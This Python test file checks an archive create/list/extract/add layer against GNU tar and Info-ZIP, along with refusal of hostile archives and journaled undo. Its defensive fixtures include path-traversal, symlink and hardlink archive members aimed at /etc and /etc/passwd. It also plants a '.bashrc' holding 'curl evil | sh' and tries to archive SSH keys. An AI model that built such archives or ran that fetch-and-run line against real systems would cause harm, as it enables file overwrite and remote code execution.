"""archive.*: differential against GNU tar and Info-ZIP (unzip / zipinfo / zip) on real temp trees,
malicious archives refused with nothing written outside, undo through the journal byte for byte."""

from __future__ import annotations

import io
import os
import shutil
import stat
import subprocess
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
from safety_env import Env, make_env
from syscall_support import call, ok

from syscalls import journal as J
from syscalls.dispatcher import Dispatcher
from syscalls.display import escape_for_display
from syscalls.errors import InvalidRequest
from syscalls.registry import default_registry
from syscalls.types import Invocation
from syscalls.validate import validate

TAR_FORMATS = [("a.tar", "tar", "-xf"), ("a.tar.gz", "tar.gz", "-xzf"), ("a.tgz", "tar.gz", "-xzf"),
               ("a.tar.bz2", "tar.bz2", "-xjf"), ("a.tar.xz", "tar.xz", "-xJf")]

needs_tar = pytest.mark.skipif(shutil.which("tar") is None, reason="GNU tar is not installed")
needs_zip = pytest.mark.skipif(not all(shutil.which(t) for t in ("zip", "unzip", "zipinfo")),
                               reason="zip / unzip are not installed")


def make_tree(root: Path) -> Path:
    proj = root / "proj"
    (proj / "src" / "deep").mkdir(parents=True)
    (proj / "empty").mkdir()
    (proj / "README.md").write_text("# readme\n")
    (proj / "src" / "main.py").write_text("print('hi')\n" * 50)
    (proj / "src" / "deep" / "data.bin").write_bytes(bytes(range(256)) * 40)
    (proj / "my notes.txt").write_text("with a space\n")
    (proj / "données.txt").write_text("unicode name\n")
    (proj / "run.sh").write_text("#!/bin/sh\necho run\n")
    os.chmod(proj / "run.sh", 0o755)
    os.symlink("README.md", proj / "link-to-readme")
    os.symlink("src/deep", proj / "link-to-dir")
    return proj


def snapshot(root: Path) -> dict[str, tuple[str, Any, bool]]:
    """type, content (bytes / link target) and the owner's execute bit of every entry under ``root``."""
    out: dict[str, tuple[str, Any, bool]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            st = os.lstat(p)
            rel = str(p.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", os.readlink(p), False)
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", None, False)
            else:
                out[rel] = ("file", p.read_bytes(), bool(st.st_mode & 0o100))
    return out


def full_snapshot(root: Path) -> dict[str, tuple[str, int, Any]]:
    """Everything undo must restore: type, mode and content (links: their target)."""
    out: dict[str, tuple[str, int, Any]] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d != ".local"]
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            st = os.lstat(p)
            rel = str(p.relative_to(root))
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", 0, os.readlink(p))
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", stat.S_IMODE(st.st_mode), None)
            else:
                out[rel] = ("file", stat.S_IMODE(st.st_mode), p.read_bytes())
    return out


def run(*argv: str, cwd: Path) -> str:
    return subprocess.run(argv, cwd=cwd, check=True, capture_output=True, text=True).stdout


def names_of(text: str) -> set[str]:
    return {line.rstrip("/") for line in text.splitlines() if line.strip()}


def our_names(path: str, cwd: Path) -> set[str]:
    return {row["name"] for row in ok("archive.list", {"path": path}, cwd)["entries"]}


# ---------------------------------------------------------------- archives we make, read by the real tools

@needs_tar
@pytest.mark.parametrize(("name", "fmt", "xflag"), TAR_FORMATS)
def test_created_tar_lists_and_extracts_identically_with_gnu_tar(tmp_path: Path, name: str, fmt: str,
                                                                 xflag: str) -> None:
    proj = make_tree(tmp_path)
    data = ok("archive.create", {"path": name, "sources": ["proj"]}, tmp_path)
    assert data["format"] == fmt and data["created"] is True
    listed = names_of(run("tar", "-tf", name, cwd=tmp_path))
    assert listed == our_names(name, tmp_path)
    assert listed == {"proj", *(f"proj/{k}" for k in snapshot(proj))}
    out = tmp_path / "by-tar"
    out.mkdir()
    run("tar", xflag, str(tmp_path / name), "-C", str(out), cwd=tmp_path)
    assert snapshot(out / "proj") == snapshot(proj)
    ours = tmp_path / "by-us"
    ours.mkdir()
    ok("archive.extract", {"path": name, "dest": "by-us"}, tmp_path)
    assert snapshot(ours) == snapshot(out)


@needs_zip
def test_created_zip_lists_and_extracts_identically_with_unzip(tmp_path: Path) -> None:
    proj = make_tree(tmp_path)
    ok("archive.create", {"path": "a.zip", "sources": ["proj"]}, tmp_path)
    listed = names_of(run("zipinfo", "-1", "a.zip", cwd=tmp_path))
    assert listed == our_names("a.zip", tmp_path)
    assert listed == {"proj", *(f"proj/{k}" for k in snapshot(proj))}
    unzip_l = run("unzip", "-l", "a.zip", cwd=tmp_path)
    assert all(n in unzip_l for n in listed)
    run("unzip", "-tq", "a.zip", cwd=tmp_path)  # every CRC checks out
    out = tmp_path / "by-unzip"
    run("unzip", "-q", "a.zip", "-d", str(out), cwd=tmp_path)
    assert snapshot(out / "proj") == snapshot(proj)
    ours = tmp_path / "by-us"
    ours.mkdir()
    ok("archive.extract", {"path": "a.zip", "dest": str(ours)}, tmp_path)
    assert snapshot(ours) == snapshot(out)


@needs_tar
@pytest.mark.parametrize("sources", [["."], ["./proj"], ["proj/src", "proj/README.md"]])
def test_member_names_follow_tar_for_the_sources_as_given(tmp_path: Path, sources: list[str]) -> None:
    make_tree(tmp_path)
    work = tmp_path / "w"
    shutil.copytree(tmp_path / "proj", work / "proj", symlinks=True)
    run("tar", "-czf", str(tmp_path / "gnu.tgz"), *sources, cwd=work)
    ok("archive.create", {"path": str(tmp_path / "ours.tgz"), "sources": sources}, work)
    assert names_of(run("tar", "-tzf", str(tmp_path / "ours.tgz"), cwd=work)) == \
        names_of(run("tar", "-tzf", str(tmp_path / "gnu.tgz"), cwd=work))


@needs_tar
def test_absolute_source_loses_its_leading_slash_like_tar(tmp_path: Path) -> None:
    proj = make_tree(tmp_path)
    (tmp_path / "w").mkdir()
    run("tar", "-czf", "gnu.tgz", str(proj), cwd=tmp_path / "w")
    ok("archive.create", {"path": "ours.tgz", "sources": [str(proj)]}, tmp_path / "w")
    assert our_names("ours.tgz", tmp_path / "w") == names_of(run("tar", "-tzf", "gnu.tgz", cwd=tmp_path / "w"))


@needs_tar
def test_base_is_like_tar_dash_C(tmp_path: Path) -> None:
    make_tree(tmp_path)
    (tmp_path / "w").mkdir()
    run("tar", "-C", str(tmp_path / "proj"), "-cf", "gnu.tar", "src", cwd=tmp_path / "w")
    ok("archive.create", {"path": "ours.tar", "sources": ["src"], "base": str(tmp_path / "proj")}, tmp_path / "w")
    assert our_names("ours.tar", tmp_path / "w") == names_of(run("tar", "-tf", "gnu.tar", cwd=tmp_path / "w"))


# ---------------------------------------------------------------- archives the real tools make, read by us

@needs_tar
@pytest.mark.parametrize(("cflag", "name"), [("-cf", "t.tar"), ("-czf", "t.tgz"), ("-cjf", "t.tar.bz2"),
                                             ("-cJf", "t.tar.xz")])
def test_gnu_tar_archives_list_and_extract_identically_with_our_calls(tmp_path: Path, cflag: str,
                                                                      name: str) -> None:
    proj = make_tree(tmp_path)
    os.link(proj / "README.md", proj / "hardlinked.md")
    run("tar", cflag, name, "proj", cwd=tmp_path)
    assert our_names(name, tmp_path) == names_of(run("tar", "-tf", name, cwd=tmp_path))
    rows = {r["name"]: r for r in ok("archive.list", {"path": name}, tmp_path)["entries"]}
    assert rows["proj/src/deep/data.bin"]["size_bytes"] == 256 * 40
    link = rows["proj/link-to-readme"]
    assert link["type"] == "symlink" and link["link_target"] == "README.md"
    assert rows["proj/src"]["type"] == "dir"
    verbose = run("tar", "-tvf", name, cwd=tmp_path)
    assert "proj/hardlinked.md link to proj/README.md" in verbose or \
        "proj/README.md link to proj/hardlinked.md" in verbose
    assert {r["type"] for r in rows.values()} >= {"file", "dir", "symlink", "hardlink"}
    by_tar, by_us = tmp_path / "by-tar", tmp_path / "by-us"
    by_tar.mkdir()
    by_us.mkdir()
    run("tar", "-xf", str(tmp_path / name), "-C", str(by_tar), cwd=tmp_path)
    ok("archive.extract", {"path": name, "dest": "by-us"}, tmp_path)
    assert snapshot(by_us) == snapshot(by_tar)
    assert snapshot(by_us / "proj") == snapshot(proj)
    assert os.stat(by_us / "proj" / "README.md").st_ino == os.stat(by_us / "proj" / "hardlinked.md").st_ino


@needs_zip
def test_info_zip_archives_list_and_extract_identically_with_our_calls(tmp_path: Path) -> None:
    make_tree(tmp_path)
    run("zip", "-qry", "z.zip", "proj", cwd=tmp_path)
    assert our_names("z.zip", tmp_path) == names_of(run("zipinfo", "-1", "z.zip", cwd=tmp_path))
    rows = {r["name"]: r for r in ok("archive.list", {"path": "z.zip"}, tmp_path)["entries"]}
    assert rows["proj/link-to-dir"]["type"] == "symlink"
    assert rows["proj/run.sh"]["mode"] == "0755"
    by_unzip, by_us = tmp_path / "by-unzip", tmp_path / "by-us"
    run("unzip", "-q", "z.zip", "-d", str(by_unzip), cwd=tmp_path)
    by_us.mkdir()
    ok("archive.extract", {"path": "z.zip", "dest": "by-us"}, tmp_path)
    assert snapshot(by_us) == snapshot(by_unzip)


@needs_zip
def test_members_filter_matches_unzip_with_the_same_names(tmp_path: Path) -> None:
    make_tree(tmp_path)
    run("zip", "-qry", "z.zip", "proj", cwd=tmp_path)
    run("unzip", "-q", "z.zip", "proj/src/*", "-d", str(tmp_path / "by-unzip"), cwd=tmp_path)
    (tmp_path / "by-us").mkdir()
    data = ok("archive.extract", {"path": "z.zip", "dest": "by-us", "members": ["proj/src"]}, tmp_path)
    assert {r["name"] for r in data["entries"]} >= {"proj/src/main.py", "proj/src/deep/data.bin"}
    assert snapshot(tmp_path / "by-us") == snapshot(tmp_path / "by-unzip") | {"proj/src": ("dir", None, False)}
    r = call("archive.extract", {"path": "z.zip", "dest": "by-us", "members": ["nope/*"]}, tmp_path)
    assert r.error and r.error["type"] == "NotFound" and "nope/*" in r.error["message"]


# ---------------------------------------------------------------- malicious archives

def _tar_with(path: Path, *members: tarfile.TarInfo, data: bytes = b"evil\n") -> None:
    with tarfile.open(path, "w") as tf:
        for ti in members:
            if ti.isreg():
                ti.size = len(data)
                tf.addfile(ti, io.BytesIO(data))
            else:
                tf.addfile(ti)


def _info(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.linkname = link
    ti.mode = 0o644
    return ti


MALICIOUS_TARS: dict[str, list[tarfile.TarInfo]] = {
    "dotdot": [_info("ok.txt"), _info("../evil")],
    "nested-dotdot": [_info("a/b/../../../evil")],
    "absolute": [_info("/tmp/nlsh-archive-test-evil")],
    "symlink-to-etc": [_info("etc", tarfile.SYMTYPE, "/etc")],
    "symlink-up": [_info("sub/up", tarfile.SYMTYPE, "../../outside")],
    "symlink-then-write-through": [_info("l", tarfile.SYMTYPE, "sub"), _info("l/f.txt")],
    "hardlink-outside": [_info("hl", tarfile.LNKTYPE, "/etc/passwd")],
    "hardlink-dotdot": [_info("hl", tarfile.LNKTYPE, "../outside.txt")],
    "fifo": [_info("pipe", tarfile.FIFOTYPE)],
    "char-device": [_info("null", tarfile.CHRTYPE)],
    "block-device": [_info("sda", tarfile.BLKTYPE)],
}


@pytest.mark.parametrize("case", list(MALICIOUS_TARS))
def test_malicious_tar_members_are_refused_and_nothing_is_written(tmp_path: Path, case: str) -> None:
    (tmp_path / "outside.txt").write_text("keep me\n")
    (tmp_path / "dest" / "sub").mkdir(parents=True)
    _tar_with(tmp_path / "bad.tar", *MALICIOUS_TARS[case])
    before = full_snapshot(tmp_path)
    r = call("archive.extract", {"path": "bad.tar", "dest": "dest"}, tmp_path)
    assert r.status in ("denied", "failed"), r.data
    assert r.error is not None and r.error["type"] == "UnsafeMember", r.error
    bad = MALICIOUS_TARS[case][-1]
    assert r.error["target"] == bad.name and bad.name in r.error["message"]
    assert "members" in r.error["hint"]  # says what to do
    assert full_snapshot(tmp_path) == before  # nothing written, inside dest or outside
    assert not os.path.lexists("/tmp/nlsh-archive-test-evil")


def test_malicious_zip_members_are_refused(tmp_path: Path) -> None:
    (tmp_path / "dest").mkdir()
    cases: dict[str, tuple[str, bytes, int]] = {
        "../evil.txt": ("../evil.txt", b"x", 0o100644),
        "/abs.txt": ("/abs.txt", b"x", 0o100644),
        "..\\evil.txt": ("..\\evil.txt", b"x", 0o100644),
        "link": ("link", b"/etc", stat.S_IFLNK | 0o777),
        "uplink": ("uplink", b"../../x", stat.S_IFLNK | 0o777),
        "fifo": ("fifo", b"", stat.S_IFIFO | 0o644),
    }
    before = full_snapshot(tmp_path)
    for label, (name, data, mode) in cases.items():
        zpath = tmp_path / "bad.zip"
        with zipfile.ZipFile(zpath, "w") as zf:
            zf.writestr("fine.txt", b"fine")
            zi = zipfile.ZipInfo("placeholder")
            zi.filename = name  # ZipInfo() would normalise the name; a hostile archive does not
            zi.external_attr = mode << 16
            zi.create_system = 3
            zf.writestr(zi, data)
        r = call("archive.extract", {"path": "bad.zip", "dest": "dest"}, tmp_path)
        assert r.error is not None and r.error["type"] == "UnsafeMember", (label, r.error)
        assert r.error["target"] == escape_for_display(name) and escape_for_display(name) in r.error["message"]
        zpath.unlink()
        assert full_snapshot(tmp_path) == before, label


def test_a_symlink_already_in_dest_is_never_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "dest").mkdir()
    os.symlink(str(outside), tmp_path / "dest" / "out")
    _tar_with(tmp_path / "t.tar", _info("out/evil.txt"))
    with zipfile.ZipFile(tmp_path / "z.zip", "w") as zf:
        zf.writestr("out/evil.txt", b"x")
    for name in ("t.tar", "z.zip"):
        r = call("archive.extract", {"path": name, "dest": "dest"}, tmp_path)
        assert r.error is not None and r.error["type"] == "UnsafeMember", r.error
        assert "out/evil.txt" in r.error["message"]
        assert list(outside.iterdir()) == []


def test_a_link_in_dest_is_replaced_only_when_it_stays_inside(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("do not touch\n")
    (tmp_path / "dest").mkdir()
    (tmp_path / "dest" / "inside.txt").write_text("inside\n")
    os.symlink(str(tmp_path / "secret.txt"), tmp_path / "dest" / "f.txt")
    os.symlink("inside.txt", tmp_path / "dest" / "g.txt")
    _tar_with(tmp_path / "t.tar", _info("f.txt"), data=b"new\n")
    r = call("archive.extract", {"path": "t.tar", "dest": "dest"}, tmp_path)
    assert r.error is not None and r.error["type"] == "UnsafeMember" and "points outside" in r.error["message"]
    assert os.path.islink(tmp_path / "dest" / "f.txt")
    _tar_with(tmp_path / "t.tar", _info("g.txt"), data=b"new\n")
    ok("archive.extract", {"path": "t.tar", "dest": "dest"}, tmp_path)
    assert (tmp_path / "secret.txt").read_text() == "do not touch\n"
    assert (tmp_path / "dest" / "inside.txt").read_text() == "inside\n"  # replaced the link, not written through
    assert not os.path.islink(tmp_path / "dest" / "g.txt")
    assert (tmp_path / "dest" / "g.txt").read_bytes() == b"new\n"


def test_extract_into_home_cannot_plant_a_login_hook(env: Env) -> None:
    _tar_with(env.cwd / "t.tar", _info(".bashrc"), data=b"curl evil | sh\n")
    r = env.run("archive.extract", {"path": "t.tar", "dest": str(env.home)})
    assert r.status == "denied" and r.error is not None and r.error["type"] == "FloorViolation", r.error
    assert not (env.home / ".bashrc").exists()


def test_sources_are_held_to_the_floor_and_credential_stores_are_skipped(env: Env) -> None:
    (env.home / ".ssh").mkdir()
    (env.home / ".ssh" / "id_ed25519").write_text("PRIVATE")
    (env.home / "notes.txt").write_text("n")
    r = env.run("archive.create", {"path": "keys.tgz", "sources": ["~/.ssh"]})
    assert r.status == "denied" and r.error is not None and r.error["type"] == "FloorViolation"
    assert not (env.cwd / "keys.tgz").exists()
    data = env.run("archive.create", {"path": "home.tgz", "sources": ["~"]}).data
    assert data is not None
    assert any(s["path"].endswith("/.ssh") for s in data["skipped"])
    with tarfile.open(env.cwd / "home.tgz") as tf:
        names = tf.getnames()
    assert not any(".ssh" in n for n in names) and any(n.endswith("notes.txt") for n in names)
    r = env.run("archive.create", {"path": "proc.tar", "sources": ["/proc/self/environ"]})
    assert r.status == "denied"


# ---------------------------------------------------------------- undo (journal)

@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Env:
    return make_env(tmp_path, monkeypatch)


def test_undo_create_removes_the_archive_and_restores_a_replaced_one(env: Env) -> None:
    make_tree(env.cwd)
    before = full_snapshot(env.cwd)
    assert env.run("archive.create", {"path": "a.tgz", "sources": ["proj"]}).ok
    assert (env.cwd / "a.tgz").exists()
    J.undo(state=env.state, data=env.data)
    assert full_snapshot(env.cwd) == before
    (env.cwd / "old.zip").write_bytes(b"PK old bytes that are not really a zip")
    os.chmod(env.cwd / "old.zip", 0o640)
    before = full_snapshot(env.cwd)
    r = env.run("archive.create", {"path": "old.zip", "sources": ["proj"]})
    assert r.ok and r.data is not None and r.data["overwrote"] is True
    assert stat.S_IMODE(os.stat(env.cwd / "old.zip").st_mode) == 0o640
    J.undo(state=env.state, data=env.data)
    assert full_snapshot(env.cwd) == before


def test_undo_extract_removes_what_it_created_and_restores_what_it_overwrote(env: Env) -> None:
    make_tree(env.cwd)
    assert env.run("archive.create", {"path": "a.tar.gz", "sources": ["proj"]}).ok
    dest = env.cwd / "dest"
    (dest / "proj" / "src").mkdir(parents=True)
    (dest / "proj" / "README.md").write_text("an older readme\n")
    (dest / "proj" / "src" / "mine.txt").write_text("not in the archive\n")
    (dest / "proj" / "link-to-readme").write_text("a file where the archive has a link\n")
    before = full_snapshot(env.cwd)
    r = env.run("archive.extract", {"path": "a.tar.gz", "dest": "dest"})
    assert r.ok, r.error
    assert r.data is not None and r.data["overwrote"] == 2
    assert (dest / "proj" / "README.md").read_text() == "# readme\n"
    assert os.path.islink(dest / "proj" / "link-to-readme")
    J.undo(state=env.state, data=env.data)
    after = full_snapshot(env.cwd)
    assert after == before, {k for k in set(before) | set(after) if before.get(k) != after.get(k)}


def test_undo_extract_of_a_zip_into_an_empty_dir(env: Env) -> None:
    make_tree(env.cwd)
    assert env.run("archive.create", {"path": "a.zip", "sources": ["proj"]}).ok
    (env.cwd / "x").mkdir()
    before = full_snapshot(env.cwd)
    assert env.run("archive.extract", {"path": "a.zip", "dest": "x"}).ok
    assert snapshot(env.cwd / "x" / "proj") == snapshot(env.cwd / "proj")
    J.undo(state=env.state, data=env.data)
    assert full_snapshot(env.cwd) == before


@pytest.mark.parametrize("name", ["a.tar.gz", "a.zip"])
def test_extract_makes_a_missing_destination_and_undo_removes_it(env: Env, name: str) -> None:
    """Like unzip -d: "unzip a.zip into old-stuff/2024" makes the folders; undo takes them away again."""
    make_tree(env.cwd)
    assert env.run("archive.create", {"path": name, "sources": ["proj"]}).ok
    before = full_snapshot(env.cwd)
    preview = env.run("archive.extract", {"path": name, "dest": "old-stuff/2024"}, dry_run=True)
    assert preview.status == "dry-run" and preview.data is not None, preview.error
    assert str(env.cwd / "old-stuff") in preview.data["creates"], preview.data
    assert not (env.cwd / "old-stuff").exists()  # a preview makes nothing
    r = env.run("archive.extract", {"path": name, "dest": "old-stuff/2024"})
    assert r.ok, r.error
    assert snapshot(env.cwd / "old-stuff" / "2024" / "proj") == snapshot(env.cwd / "proj")
    J.undo(state=env.state, data=env.data)
    after = full_snapshot(env.cwd)
    assert after == before, {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    (env.cwd / "a-file").write_text("x")
    r = env.run("archive.extract", {"path": name, "dest": "a-file/sub"})
    assert r.status == "failed" and r.error is not None and "directory" in r.error["message"], r.error
    assert (env.cwd / "a-file").read_text() == "x"


@pytest.mark.parametrize("name", ["a.tar", "a.zip"])
def test_undo_add_restores_the_previous_archive_bytes(env: Env, name: str) -> None:
    make_tree(env.cwd)
    assert env.run("archive.create", {"path": name, "sources": ["proj/src"]}).ok
    (env.cwd / "extra.txt").write_text("extra\n")
    old = (env.cwd / name).read_bytes()
    before = full_snapshot(env.cwd)
    r = env.run("archive.add", {"path": name, "sources": ["extra.txt", "proj/README.md"]})
    assert r.ok and r.data is not None and r.data["added"] == 2, r.error
    assert {"extra.txt", "proj/README.md"} <= our_names(name, env.cwd)
    J.undo(state=env.state, data=env.data)
    assert (env.cwd / name).read_bytes() == old
    assert full_snapshot(env.cwd) == before


# ---------------------------------------------------------------- add, errors, preview

@needs_tar
def test_add_to_tar_appends_like_tar_r(tmp_path: Path) -> None:
    make_tree(tmp_path)
    shutil.copy(tmp_path / "proj" / "README.md", tmp_path / "extra.md")
    run("tar", "-cf", "gnu.tar", "proj/src", cwd=tmp_path)
    run("tar", "-rf", "gnu.tar", "extra.md", cwd=tmp_path)
    ok("archive.create", {"path": "ours.tar", "sources": ["proj/src"]}, tmp_path)
    ok("archive.add", {"path": "ours.tar", "sources": ["extra.md"]}, tmp_path)
    assert names_of(run("tar", "-tf", "ours.tar", cwd=tmp_path)) == names_of(run("tar", "-tf", "gnu.tar", cwd=tmp_path))


@needs_zip
def test_add_to_zip_replaces_a_member_like_zip(tmp_path: Path) -> None:
    make_tree(tmp_path)
    ok("archive.create", {"path": "ours.zip", "sources": ["proj"]}, tmp_path)
    run("zip", "-qry", "gnu.zip", "proj", cwd=tmp_path)
    (tmp_path / "proj" / "README.md").write_text("# changed\n")
    run("zip", "-qy", "gnu.zip", "proj/README.md", cwd=tmp_path)
    data = ok("archive.add", {"path": "ours.zip", "sources": ["proj/README.md"]}, tmp_path)
    assert data["replaced"] == ["proj/README.md"]
    assert names_of(run("zipinfo", "-1", "ours.zip", cwd=tmp_path)) == names_of(run("zipinfo", "-1", "gnu.zip",
                                                                                      cwd=tmp_path))
    assert run("unzip", "-p", "ours.zip", "proj/README.md", cwd=tmp_path) == "# changed\n"
    run("unzip", "-tq", "ours.zip", cwd=tmp_path)


def test_add_to_a_compressed_tar_is_a_typed_error(tmp_path: Path) -> None:
    make_tree(tmp_path)
    ok("archive.create", {"path": "a.tar.gz", "sources": ["proj/src"]}, tmp_path)
    old = (tmp_path / "a.tar.gz").read_bytes()
    r = call("archive.add", {"path": "a.tar.gz", "sources": ["proj/README.md"]}, tmp_path)
    assert r.error is not None and r.error["type"] == "WrongType"
    assert "compressed" in r.error["message"] and "archive.create" in r.error["hint"]
    assert (tmp_path / "a.tar.gz").read_bytes() == old


def test_typed_errors_for_bad_requests(tmp_path: Path) -> None:
    make_tree(tmp_path)
    r = call("archive.create", {"path": "a.rar", "sources": ["proj"]}, tmp_path)
    assert r.status == "invalid" and r.error is not None and r.error["target"] == "args.format"
    assert ok("archive.create", {"path": "a.rar", "sources": ["proj"], "format": "zip"}, tmp_path)["format"] == "zip"
    assert zipfile.is_zipfile(tmp_path / "a.rar")
    r = call("archive.create", {"path": "b.tgz", "sources": ["missing-dir"]}, tmp_path)
    assert r.error is not None and r.error["type"] == "NotFound" and "missing-dir" in r.error["target"]
    assert not (tmp_path / "b.tgz").exists()
    ok("archive.create", {"path": "c.tgz", "sources": ["proj"]}, tmp_path)
    r = call("archive.create", {"path": "c.tgz", "sources": ["proj"], "no_clobber": True}, tmp_path)
    assert r.error is not None and r.error["type"] == "AlreadyExists"
    r = call("archive.list", {"path": "proj/README.md"}, tmp_path)
    assert r.error is not None and r.error["type"] == "WrongType" and "archive" in r.error["message"]
    r = call("archive.list", {"path": "nope.zip"}, tmp_path)
    assert r.error is not None and r.error["type"] == "NotFound"
    r = call("archive.extract", {"path": "c.tgz", "dest": "proj/README.md"}, tmp_path)
    assert r.error is not None and r.error["type"] == "WrongType" and "directory" in r.error["hint"]
    r = call("archive.add", {"path": "nope.tar", "sources": ["proj"]}, tmp_path)
    assert r.error is not None and r.error["type"] == "NotFound" and "archive.create" in r.error["hint"]
    with pytest.raises(InvalidRequest, match="sources"):
        call("archive.create", {"path": "d.tgz", "sources": []}, tmp_path)
    os.mkfifo(tmp_path / "proj" / "pipe")
    data = ok("archive.create", {"path": "e.tar", "sources": ["proj"]}, tmp_path)
    assert [s["path"] for s in data["skipped"]] == [str(tmp_path / "proj" / "pipe")]


def test_extract_no_clobber_refuses_before_writing_anything(tmp_path: Path) -> None:
    make_tree(tmp_path)
    ok("archive.create", {"path": "a.tgz", "sources": ["proj"]}, tmp_path)
    (tmp_path / "d" / "proj").mkdir(parents=True)
    (tmp_path / "d" / "proj" / "run.sh").write_text("mine\n")
    before = full_snapshot(tmp_path / "d")
    r = call("archive.extract", {"path": "a.tgz", "dest": "d", "no_clobber": True}, tmp_path)
    assert r.error is not None and r.error["type"] == "AlreadyExists" and "proj/run.sh" in r.error["message"]
    assert full_snapshot(tmp_path / "d") == before


def test_dry_run_previews_what_would_be_created_and_overwritten(tmp_path: Path) -> None:
    make_tree(tmp_path)
    ok("archive.create", {"path": "a.tgz", "sources": ["proj"]}, tmp_path)
    (tmp_path / "d" / "proj").mkdir(parents=True)
    (tmp_path / "d" / "proj" / "README.md").write_text("old\n")
    before = full_snapshot(tmp_path)
    reg = default_registry()
    d = Dispatcher(reg)
    res = d.handle(validate({"call": "archive.extract", "args": {"path": "a.tgz", "dest": "d"}}, reg),
                   Invocation(cwd=tmp_path, dry_run=True))
    assert res.status == "dry-run" and res.data is not None
    assert res.data["overwrites"] == [str(tmp_path / "d" / "proj" / "README.md")]
    assert str(tmp_path / "d" / "proj" / "src" / "main.py") in res.data["creates"]
    res = d.handle(validate({"call": "archive.create", "args": {"path": "n.zip", "sources": ["proj"]}}, reg),
                   Invocation(cwd=tmp_path, dry_run=True))
    assert res.data is not None and res.data["overwrites"] is False and "proj/README.md" in res.data["members"]
    res = d.handle(validate({"call": "archive.add", "args": {"path": "a.tgz", "sources": ["proj"]}}, reg),
                   Invocation(cwd=tmp_path, dry_run=True))
    assert res.error is not None and res.error["type"] == "WrongType"
    assert full_snapshot(tmp_path) == before


def test_archive_inside_its_own_source_is_not_archived(tmp_path: Path) -> None:
    make_tree(tmp_path)
    ok("archive.create", {"path": "proj/self.tar", "sources": ["proj"]}, tmp_path)
    data = ok("archive.create", {"path": "proj/self.tar", "sources": ["proj"]}, tmp_path)
    assert data["overwrote"] is True
    assert "proj/self.tar" not in our_names("proj/self.tar", tmp_path)
    assert not any(".nlsh-" in n for n in our_names("proj/self.tar", tmp_path))
